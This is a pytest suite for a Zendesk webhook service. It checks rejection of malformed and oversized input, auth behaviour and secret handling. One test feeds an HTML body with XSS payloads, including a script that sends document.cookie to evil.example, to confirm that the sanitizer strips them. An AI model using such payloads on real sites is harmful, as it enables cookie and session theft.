"""The HTTP surface lets no one in and answers every hostile input (docs/zendesk-contract.md).

``HOSTILE`` is the table of inputs tried, with the answer each must get; the issue's
closing note lists it. Each case runs against the real app on the embedded backends.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from litestar.testing import TestClient
from sqlalchemy import func, select

from creditctl.db import session_scope
from creditctl.models import Email, Quarantine
from creditctl.web import create_app
from tests.helpers import API_TOKEN, SECRET, drain, make_env, payload, signed_headers
from tests.ports import free_port

ROOT = Path(__file__).resolve().parents[2]
AUTH = {"Authorization": f"Bearer {API_TOKEN}"}


def _count(env, model=Email) -> int:
    with session_scope(env.ctx.db_url) as s:
        return s.scalar(select(func.count()).select_from(model))


# the table of hostile inputs ---------------------------------------------------------
# (name, body, extra headers, expected status, a word of the expected detail, kept in quarantine?)
HOSTILE = [
    ("non-JSON text", b"hello, this is not json", {}, 400, "not JSON", True),
    ("empty body", b"", {}, 400, "not JSON", True),
    ("JSON array, not object", b'[{"ticket_id": "1"}]', {}, 400, "JSON object", True),
    ("JSON string", b'"just a string"', {}, 400, "JSON object", True),
    ("wrong content type text/plain", payload(), {"Content-Type": "text/plain"}, 415, "application/json", False),
    (
        "form content type",
        b"ticket_id=1&body_text=x",
        {"Content-Type": "application/x-www-form-urlencoded"},
        415,
        "application/json",
        False,
    ),
    ("JSON in latin-1 charset", payload(), {"Content-Type": "application/json; charset=latin-1"}, 415, "utf-8", False),
    ("ticket_id missing", json.dumps({"body_text": "Forderung 10 EUR"}).encode(), {}, 400, "ticket_id", True),
    ("no body_text nor body_html", json.dumps({"ticket_id": "1"}).encode(), {}, 400, "body_text or body_html", True),
    (
        "blank bodies",
        json.dumps({"ticket_id": "1", "body_text": "  ", "body_html": ""}).encode(),
        {},
        400,
        "body_text or body_html",
        True,
    ),
    ("ticket_id boolean", json.dumps({"ticket_id": True, "body_text": "x"}).encode(), {}, 400, "ticket_id", True),
    ("ticket_id object", json.dumps({"ticket_id": {"a": 1}, "body_text": "x"}).encode(), {}, 400, "ticket_id", True),
    ("body_text number", json.dumps({"ticket_id": "1", "body_text": 42}).encode(), {}, 400, "body_text", True),
    (
        "attachments not a list",
        json.dumps({"ticket_id": "1", "body_text": "x", "attachments": "a.pdf"}).encode(),
        {},
        400,
        "attachments",
        True,
    ),
    (
        "attachment size negative",
        json.dumps({"ticket_id": "1", "body_text": "x", "attachments": [{"file_name": "a", "size": -1}]}).encode(),
        {},
        400,
        "attachments",
        True,
    ),
    (
        "ticket_id 10 000 chars",
        json.dumps({"ticket_id": "9" * 10_000, "body_text": "x"}).encode(),
        {},
        400,
        "ticket_id",
        True,
    ),
    (
        "subject 100 000 chars",
        json.dumps({"ticket_id": "1", "subject": "s" * 100_000, "body_text": "x"}).encode(),
        {},
        400,
        "subject",
        True,
    ),
    (
        "101 attachments",
        json.dumps(
            {"ticket_id": "1", "body_text": "x", "attachments": [{"file_name": f"{i}.pdf"} for i in range(101)]}
        ).encode(),
        {},
        400,
        "attachments",
        True,
    ),
    (
        "headers with a nested object",
        json.dumps({"ticket_id": "1", "body_text": "x", "headers": {"X": {"y": 1}}}).encode(),
        {},
        400,
        "headers",
        True,
    ),
    ("invalid UTF-8", b'{"ticket_id": "1", "body_text": "Betrag \xff\xfe 10 EUR"}', {}, 400, "UTF-8", True),
    ("UTF-8 BOM + JSON", b"\xef\xbb\xbf" + payload(), {}, 400, "not JSON", True),
    (
        "deeply nested JSON (100 000 levels)",
        b'{"ticket_id": "1", "body_text": "x", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        {},
        400,
        "nested",
        True,
    ),
    ("NaN literal", b'{"ticket_id": "1", "body_text": "x", "n": NaN}', {}, 200, "", False),
    (
        "lone surrogate escape",
        json.dumps({"ticket_id": "1", "body_text": "\ud800 x"}).encode(),
        {},
        400,
        "body_text",
        True,
    ),
    (
        "NUL character in body_text",
        json.dumps({"ticket_id": "1", "body_text": "a\u0000b 10 EUR"}).encode(),
        {},
        200,
        "",
        False,
    ),
]


@pytest.mark.parametrize("name,body,headers,code,reason,quarantined", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_input_gets_a_clear_answer(sqlite_env, name, body, headers, code, reason, quarantined):
    with TestClient(create_app(sqlite_env.ctx)) as client:
        answer = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body) | headers)
        assert answer.status_code == code, answer.text
        if code != 200:
            assert answer.json()["status"] == "error"
            assert reason.lower() in answer.json()["detail"].lower(), answer.json()
        assert client.get("/healthz").status_code == 200  # the server is still alive
    assert _count(sqlite_env, Quarantine) == (1 if quarantined else 0)  # signed but invalid: kept
    if code == 200:
        drain(sqlite_env.runtime)  # the worker survives it too
        with session_scope(sqlite_env.ctx.db_url) as s:
            email = s.scalars(select(Email)).one()
            assert email.processing_status in ("completed", "not_creditor_reply"), email.last_error
            assert "\x00" not in (email.body_text or "")  # PostgreSQL text cannot hold NUL


def test_body_over_the_cap_is_413_and_not_stored(tmp_path):
    env = make_env(tmp_path, "sqlite")  # default cap: 2 MiB
    body = payload(body_text="x" * (2 * 1024 * 1024 + 1))
    try:
        with TestClient(create_app(env.ctx)) as client:
            answer = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body))
        assert answer.status_code == 413 and "2097152" in answer.json()["detail"]
        assert _count(env) == 0 and _count(env, Quarantine) == 0
    finally:
        env.close()


@pytest.mark.parametrize("declared", ["10", None, "999999999999"])
def test_lying_or_missing_content_length_stops_reading_at_the_cap(sqlite_env, declared):
    """An endless chunked body, or one that claims 10 bytes: the app reads no more than
    the cap (2 MiB) plus one chunk, answers 413 and stores nothing."""
    app = create_app(sqlite_env.ctx)
    chunk = b"x" * 65_536
    received = {"chunks": 0}
    messages: list[dict] = []

    async def receive():
        received["chunks"] += 1
        if received["chunks"] > 10_000:  # 655 MB: the app should have stopped long before
            raise AssertionError("the app kept reading an unbounded body")
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message):
        messages.append(message)

    headers = [(b"content-type", b"application/json")]
    if declared is not None:
        headers.append((b"content-length", declared.encode()))
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/webhooks/zendesk",
        "raw_path": b"/webhooks/zendesk",
        "query_string": b"",
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 1),
        "server": ("test", 80),
        "state": {},
    }
    asyncio.run(app(scope, receive, send))
    start = next(m for m in messages if m["type"] == "http.response.start")
    assert start["status"] == 413
    assert received["chunks"] * len(chunk) <= 2 * 1024 * 1024 + len(chunk)
    assert _count(sqlite_env) == 0


def test_huge_html_table_is_stored_and_cleaned_within_a_raised_cap(tmp_path):
    env = make_env(tmp_path, "sqlite", max_body_bytes=8 * 1024 * 1024)
    rows = "".join(f"<tr><td>Position {i}</td><td>{i},00 EUR</td><td><b>offen</b></td></tr>" for i in range(90_000))
    html = f"<html><body><p>Sehr geehrte Damen und Herren,</p><table>{rows}</table></body></html>"
    body = payload(body_text=None, body_html=html)
    assert len(body) > 5_000_000
    try:
        with TestClient(create_app(env.ctx)) as client:
            answer = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body))
            assert answer.status_code == 200, answer.text
            started = time.monotonic()
            drain(env.runtime, timeout_s=120)
            elapsed = time.monotonic() - started
            doc = client.get(f"/emails/{answer.json()['email_id']}", headers=AUTH).json()
    finally:
        env.close()
    assert doc["processing_status"] in ("completed", "not_creditor_reply", "failed"), doc["processing_status"]
    assert doc["processing_status"] != "failed" or doc["last_error_class"], doc
    assert elapsed < 120


def test_html_with_scripts_is_cleaned(sqlite_env):
    html = (
        "<html><head><script>fetch('https://evil.example/?'+document.cookie)</script>"
        "<style>p{color:red}</style></head><body onload=\"alert('x')\"><p>Die Forderung beträgt "
        '<b>1.234,56 EUR</b>.</p><img src=x onerror="alert(1)"><iframe src="javascript:alert(2)"></iframe>'
        "<script>alert('<p>Gesamtforderung 9.999,99 EUR</p>')</script></body></html>"
    )
    body = payload(body_text=None, body_html=html)
    with TestClient(create_app(sqlite_env.ctx)) as client:
        email_id = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body)).json()["email_id"]
    drain(sqlite_env.runtime)
    with session_scope(sqlite_env.ctx.db_url) as s:
        email = s.get(Email, email_id)
        text = json.dumps(email.parsed, ensure_ascii=False)
        assert email.processing_status in ("completed", "not_creditor_reply"), email.last_error
    assert "1.234,56" in text
    for bad in ("evil.example", "document.cookie", "alert(", "color:red", "9.999,99", "javascript:"):
        assert bad not in text, bad


# auth --------------------------------------------------------------------------------


def test_no_read_route_reveals_whether_an_id_exists(sqlite_env):
    body = payload()
    with TestClient(create_app(sqlite_env.ctx)) as client:
        email_id = client.post("/webhooks/zendesk", content=body, headers=signed_headers(body)).json()["email_id"]
        answers = []
        for path in (f"/emails/{email_id}", "/emails/987654", "/emails/0", "/emails/99999999999999999999999"):
            for headers in (
                {},
                {"Authorization": "Bearer wrong"},
                {"Authorization": f"Basic {API_TOKEN}"},
                {"Authorization": API_TOKEN},
                {"Authorization": f"Bearer {API_TOKEN}x"},
            ):
                a = client.get(path, headers=headers)
                answers.append((a.status_code, a.json(), a.headers.get("www-authenticate")))
        assert {a for a in [(c, json.dumps(d), w) for c, d, w in answers]} == {
            (
                401,
                json.dumps({"status": "error", "detail": "missing or wrong bearer token"}),
                'Bearer realm="creditctl"',
            )
        }
        assert client.get("/emails/99999999999999999999999", headers=AUTH).status_code == 404
        assert client.get("/emails/0", headers=AUTH).status_code == 404
        assert client.get(f"/emails/{email_id}", headers={"Authorization": f"bearer {API_TOKEN}"}).status_code == 200
        assert client.get("/metrics").status_code == 401
        assert client.get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
        assert client.get("/metrics", headers=AUTH).status_code == 200
        # public by design: probes and the API description carry no data
        assert client.get("/healthz").status_code == 200 and client.get("/readyz").status_code == 200
        assert client.get("/schema/openapi.json").status_code == 200


def test_without_an_api_token_every_read_route_is_closed(tmp_path):
    env = make_env(tmp_path, "sqlite", api_token=None)
    try:
        with TestClient(create_app(env.ctx)) as client:
            for path in ("/emails/1", "/metrics"):
                for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer None"}):
                    answer = client.get(path, headers=headers)
                    assert answer.status_code == 401 and "CREDITCTL_API_TOKEN" in answer.json()["detail"]
    finally:
        env.close()


def test_signature_secret_and_token_never_echoed(sqlite_env):
    body = payload()
    headers = signed_headers(body, secret="wrong")
    with TestClient(create_app(sqlite_env.ctx)) as client:
        answer = client.post("/webhooks/zendesk", content=body, headers=headers)
    assert answer.status_code == 401
    assert headers["X-Zendesk-Webhook-Signature"] not in answer.text and SECRET not in answer.text


def _serve_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CREDITCTL_")}
    env.update(CREDITCTL_HOME=str(tmp_path), PYTHONPATH=str(ROOT), CREDITCTL_LOG_LEVEL="INFO", **extra)
    return env


def test_serve_refuses_to_start_without_the_webhook_secret(tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "creditctl", "serve", "--port", str(free_port())],
        env=_serve_env(tmp_path),
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stderr
    assert "CREDITCTL_ZENDESK_WEBHOOK_SECRET" in done.stderr and "--insecure-dev" in done.stderr


def test_serve_insecure_dev_starts_and_warns_on_every_request(tmp_path):
    import httpx

    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "creditctl", "serve", "--insecure-dev", "--port", str(port)],
        env=_serve_env(tmp_path, CREDITCTL_API_TOKEN=API_TOKEN),
        cwd=tmp_path,
        stderr=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert proc.poll() is None and time.monotonic() < deadline, "serve did not start"
            time.sleep(0.2)
        body = payload()
        unsigned = httpx.post(
            f"http://127.0.0.1:{port}/webhooks/zendesk",
            content=body,
            headers={"Content-Type": "application/json"},
            timeout=10,
        )
        assert unsigned.status_code == 200 and unsigned.json()["status"] == "accepted"
        assert httpx.get(f"http://127.0.0.1:{port}/metrics", timeout=5).status_code == 401
    finally:
        proc.terminate()
        _, stderr = proc.communicate(timeout=30)
    assert "--insecure-dev accepts unsigned webhooks" in stderr
    warnings = [line for line in stderr.splitlines() if '"event": "insecure_dev"' in line]
    assert len(warnings) >= 3, stderr[-2000:]  # healthz polls, the webhook, the metrics request
    assert "Die Gesamtforderung" not in stderr and "1.234,56" not in stderr
